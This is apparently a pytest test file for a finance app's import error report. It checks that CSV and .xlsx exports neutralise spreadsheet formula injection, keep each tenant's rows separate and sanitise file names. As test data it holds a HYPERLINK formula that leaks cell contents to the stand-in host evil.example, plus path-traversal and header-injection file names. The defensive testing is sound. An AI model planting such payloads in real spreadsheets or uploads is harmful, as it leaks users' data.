"""The error report: CSV that no spreadsheet executes, .xlsx with highlighted, commented cells.

Rows are staged straight from parsed-row values (as tests/imports/test_commit.py does), so these
tests need no reader. `stage_rows` and `issue` are reused by tests/api/test_imports.py.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from coffer.imports import report, staging
from coffer.imports.models import ImportBatch
from tests import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@dataclasses.dataclass
class Parsed:
    number: int
    booked_on: dt.date | None
    amount: Decimal | None
    description: str = ""
    balance: Decimal | None = None
    reference: str = ""
    value_on: dt.date | None = None
    counterparty: str = ""
    currency: str = ""
    category: str = ""
    raw: list = dataclasses.field(default_factory=list)
    issues: list = dataclasses.field(default_factory=list)


def issue(row: int, column: str | None, code: str, severity: str = "error", message: str = "", value: str = "") -> dict:
    return {"row": row, "column": column, "code": code, "severity": severity,
            "message": message or f"{code} on row {row}", "value": value}


def parsed(number: int, *, day: int | None = 1, amount: str | None = "-1.00", description: str = "Coffee",
           issues: list[dict] = (), raw: list[str] | None = None) -> Parsed:
    """A parsed row whose raw cells are A=date, B=description, C=amount."""
    return Parsed(
        number=number, booked_on=dt.date(2024, 3, day) if day else None,
        amount=Decimal(amount) if amount is not None else None, description=description,
        raw=raw if raw is not None else [f"2024-03-{day or 0:02d}", description, amount or ""], issues=list(issues),
    )


def stage_rows(account, rows, *, status=ImportBatch.Status.REVIEW, file_name="statement.csv", **fields) -> ImportBatch:
    batch = ImportBatch.objects.create(
        tenant=account.tenant, account=account, file_name=file_name, file_path="imports/x/upload.csv",
        sha256="0" * 64, size=100, format="csv", sheet="Sheet1",
        sheets=[{"name": "Sheet1", "rows": len(rows) + 1, "columns": 3}], header_row=1,
        mapping={"date": 0, "description": 1, "amount": 2}, mapping_source="detected", mapping_confidence=0.9,
        **fields,
    )
    staging.write_rows([staging.staged_values(batch, row) for row in rows])
    staging.mark_duplicates(batch)
    staging.summarise(batch)
    ImportBatch.objects.filter(pk=batch.pk).update(status=status)
    batch.refresh_from_db()
    return batch


STATEMENT = [
    parsed(2, day=1, description="Coffee"),
    parsed(3, day=None, description="Broken date", issues=[issue(3, "A", "E_DATE_INVALID", value="31/02")]),
    parsed(4, day=2, amount="-5000.00", description=HYPERLINK,
           issues=[issue(4, "C", "W_OUTLIER_AMOUNT", "warning", value="-5000.00")]),
    parsed(5, day=3, amount=None, description="No amount",
           issues=[issue(5, "C", "E_REQUIRED_MISSING"), issue(5, "C", "E_AMOUNT_INVALID", value="abc")]),
    parsed(6, day=4, description="Fine"),
    parsed(7, day=4, description="Fine"),  # genuine repeat (same content hash though): a duplicate in file
]


@pytest.fixture
def account(db):
    return factories.account(factories.organization(factories.user()))


def _csv(batch, size=report.PAGE_ROWS) -> list[list[str]]:
    pages = report.issue_row_pages(tenant=batch.tenant, batch_id=batch.pk, size=size)
    text = b"".join(report.csv_chunks(pages, columns=report.column_count(batch))).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_a_csv_cell_a_spreadsheet_would_execute_gets_a_leading_quote(text):
    assert report.csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Coffee", "12.50", "", " =not first", "a=b"])
def test_a_harmless_csv_cell_is_left_as_it_is(text):
    assert report.csv_cell(text) == text


def test_the_csv_report_has_one_line_per_issue_with_the_raw_cells(account):
    batch = stage_rows(account, STATEMENT)
    lines = _csv(batch)
    assert lines[0] == ["row", "column", "code", "severity", "message", "value", "A", "B", "C"]
    body = [(line[0], line[1], line[2], line[3]) for line in lines[1:]]
    assert body == [
        ("3", "A", "E_DATE_INVALID", "error"),
        ("4", "C", "W_OUTLIER_AMOUNT", "warning"),
        ("5", "C", "E_REQUIRED_MISSING", "error"),
        ("5", "C", "E_AMOUNT_INVALID", "error"),
        ("7", "", "W_DUPLICATE_IN_FILE", "warning"),
    ]
    assert lines[1][5:] == ["31/02", "2024-03-00", "Broken date", "-1.00".replace("-", "'-", 1)]


def test_a_formula_in_a_description_comes_out_of_the_csv_report_quoted(account):
    batch = stage_rows(account, STATEMENT)
    line = next(line for line in _csv(batch) if line[0] == "4")
    assert line[7] == "'" + HYPERLINK
    assert line[5] == "'-5000.00" and line[8] == "'-5000.00"  # value and the raw amount cell


def test_the_csv_report_is_the_same_whatever_the_page_size(account):
    batch = stage_rows(account, STATEMENT)
    assert _csv(batch, size=1) == _csv(batch, size=1000)


def test_report_pages_hold_only_rows_with_issues_in_row_order(account):
    batch = stage_rows(account, STATEMENT)
    pages = list(report.issue_row_pages(tenant=batch.tenant, batch_id=batch.pk, size=2))
    assert [[row.row_number for row in page] for page in pages] == [[3, 4], [5, 7]]


def test_report_pages_never_show_another_tenants_rows(account):
    batch = stage_rows(account, STATEMENT)
    other = factories.organization(factories.user())
    assert list(report.issue_row_pages(tenant=other, batch_id=batch.pk)) == []


def _xlsx(batch, tmp_path):
    path = tmp_path / "report.xlsx"
    report.write_xlsx(report.issue_row_pages(tenant=batch.tenant, batch_id=batch.pk, size=2), path,
                      columns=report.column_count(batch))
    return openpyxl.load_workbook(path)


def _fill(cell) -> str | None:
    color = cell.fill.fgColor.rgb if cell.fill and cell.fill.fill_type == "solid" else None
    return color[-6:].upper() if isinstance(color, str) else None


def test_the_xlsx_report_highlights_offending_cells_by_severity_with_a_comment(account, tmp_path):
    batch = stage_rows(account, STATEMENT)
    sheet = _xlsx(batch, tmp_path)["Rows"]
    assert [cell.value for cell in sheet[1]] == ["Row", "A", "B", "C"]
    by_row = {sheet.cell(line, 1).value: line for line in range(2, sheet.max_row + 1)}
    assert sorted(by_row) == [3, 4, 5, 7]

    date_cell = sheet.cell(by_row[3], 2)  # the file's column A
    assert date_cell.value == "2024-03-00"
    assert _fill(date_cell) == report.ERROR_FILL[1:]
    assert "E_DATE_INVALID" in date_cell.comment.text
    assert sheet.cell(by_row[3], 3).comment is None and _fill(sheet.cell(by_row[3], 3)) is None

    outlier = sheet.cell(by_row[4], 4)  # column C
    assert _fill(outlier) == report.WARNING_FILL[1:]
    assert outlier.comment.text.startswith("W_OUTLIER_AMOUNT: ")

    both = sheet.cell(by_row[5], 4).comment.text.splitlines()
    assert [text.split(":")[0] for text in both] == ["E_REQUIRED_MISSING", "E_AMOUNT_INVALID"]

    duplicate = sheet.cell(by_row[7], 1)  # no column: the row number cell carries it
    assert "W_DUPLICATE_IN_FILE" in duplicate.comment.text and _fill(duplicate) == report.WARNING_FILL[1:]


def test_the_xlsx_report_writes_formulas_as_plain_text(account, tmp_path):
    batch = stage_rows(account, STATEMENT)
    sheet = _xlsx(batch, tmp_path)["Rows"]
    line = next(line for line in range(2, sheet.max_row + 1) if sheet.cell(line, 1).value == 4)
    cell = sheet.cell(line, 3)
    assert cell.value == HYPERLINK and cell.data_type == "s"


def test_the_xlsx_report_lists_every_issue_on_its_issues_sheet(account, tmp_path):
    batch = stage_rows(account, STATEMENT)
    sheet = _xlsx(batch, tmp_path)["Issues"]
    rows = [tuple(cell.value for cell in line) for line in sheet.iter_rows(min_row=1)]
    assert rows[0] == ("row", "column", "code", "severity", "message", "value")
    assert [(r[0], r[1], r[2], r[3]) for r in rows[1:]] == [
        (3, "A", "E_DATE_INVALID", "error"),
        (4, "C", "W_OUTLIER_AMOUNT", "warning"),
        (5, "C", "E_REQUIRED_MISSING", "error"),
        (5, "C", "E_AMOUNT_INVALID", "error"),
        (7, None, "W_DUPLICATE_IN_FILE", "warning"),
    ]
    assert rows[1][5] == "31/02"


def test_an_import_without_issues_gives_a_report_with_headers_only(account, tmp_path):
    batch = stage_rows(account, [parsed(2), parsed(3, day=2)])
    assert _csv(batch) == [["row", "column", "code", "severity", "message", "value", "A", "B", "C"]]
    workbook = _xlsx(batch, tmp_path)
    assert workbook["Rows"].max_row == 1 and workbook["Issues"].max_row == 1


@pytest.mark.parametrize(("original", "expected"), [
    ("statement.xlsx", "statement-errors.csv"),
    ("../../etc/passwd", "passwd-errors.csv"),
    ("C:\\Users\\me\\bank.csv", "bank-errors.csv"),
    ('a"b\r\nContent-Type: evil.csv', "a_b_Content-Type_ evil-errors.csv"),
    ("Kontoauszug März 2024.xls", "Kontoauszug M_rz 2024-errors.csv"),
    ("", "import-errors.csv"),
    ("...", "import-errors.csv"),
])
def test_the_report_file_name_is_derived_from_the_upload_and_safe(original, expected):
    assert report.safe_file_name(original, suffix="csv") == expected


def test_a_csv_import_knows_its_column_count_though_its_sheet_has_no_name():
    from coffer.imports.models import ImportBatch

    csv_batch = ImportBatch(sheet="", sheets=[{"name": None, "rows": 3, "columns": 4}])
    workbook = ImportBatch(sheet="Data", sheets=[{"name": "Cover", "rows": 2, "columns": 1},
                                                  {"name": "Data", "rows": 9, "columns": 6}])
    assert report.column_count(csv_batch) == 4 and report.column_count(workbook) == 6
